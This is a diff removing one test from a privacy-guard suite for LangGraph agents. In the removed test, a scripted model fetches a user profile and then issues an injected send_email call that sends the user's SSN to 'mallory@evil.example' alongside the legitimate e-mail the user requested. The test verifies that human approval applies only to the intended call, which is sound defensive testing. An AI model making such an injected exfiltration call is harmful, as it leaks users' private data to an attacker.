@@ -333,56 +333,6 @@ def test_a_tools_own_artifact_does_not_reach_the_messages_beside_the_flows_text(
     assert ssn not in repr(shown[0]) and shown[0].artifact == {"vfa": {"outcome": "ran"}}
 
 
-def test_with_one_call_at_a_time_an_approval_answers_the_call_it_was_asked_about():
-    # a ToolNode runs a turn's calls at once and LangGraph matches a person's answers to a node run's
-    # questions in the order raised: with max_concurrency=1 the calls come in the model's order
-    import json
-
-    from langchain_core.messages import HumanMessage
-    from test_privacy_echo import _react_graph
-
-    from guards import PrivacyFlow, PrivacyPolicy, privacy_sink, privacy_source
-
-    me, alice, attacker = "me@home.example", "alice@work.example", "mallory@evil.example"
-    sent: list[tuple[str, str]] = []
-
-    @tool
-    @privacy_source(private=["phone", "ssn"], kind="profile")
-    def get_profile() -> dict:
-        """The user's profile."""
-        return {"name": "Emma", "phone": "+1 555 0142 77", "ssn": "078-05-1120"}
-
-    @tool
-    @privacy_sink(disclose={"body": "to"}, authority=["to"])
-    @privacy_source()
-    def send_email(to: str, body: str) -> str:
-        """Send an e-mail."""
-        sent.append((to, body))
-        return "sent"
-
-    def rule(messages: list[Any]) -> Any:
-        results = [m for m in messages if m.type == "tool"]
-        if not results:
-            return ("get_profile", {})
-        if len(results) == 1:
-            p = json.loads(results[0].content)
-            return AIMessage("", tool_calls=[  # what the user asked for (slower to label), then an injection
-                {"name": "send_email", "id": "a", "args": {"to": alice, "body": f"my phone is {p['phone']} "
-                                                           + " ".join(f"w{i}x" for i in range(3000))}},
-                {"name": "send_email", "id": "b", "args": {"to": attacker, "body": f"ssn {p['ssn']}"}}])
-        return "done"
-
-    b = _react_graph(rule, [get_profile, send_email])
-    flow = PrivacyFlow(PrivacyPolicy.of(me, on_violation="ask"))
-    app = graphs.guard_graph(b, [flow.guard()], flow=flow, read_only=["get_profile"], checkpointer=InMemorySaver())
-    for k in range(3):
-        sent.clear()
-        cfg = {"configurable": {"thread_id": f"t{k}"}, "max_concurrency": 1}
-        app.invoke({"messages": [HumanMessage(f"Send my phone number to {alice}")]}, cfg)
-        app.invoke(Command(resume={"type": "approve"}), cfg)  # the person approves the call about alice
-        assert [to for to, _body in sent] == [alice]
-
-
 def test_two_calls_with_one_id_in_a_turn_are_both_refused_by_the_gate():
     # the ToolNode runs them at once, so which came first is not known: neither runs, and the model
     # is told to give each call its own id (no "started but never recorded" question to a person)
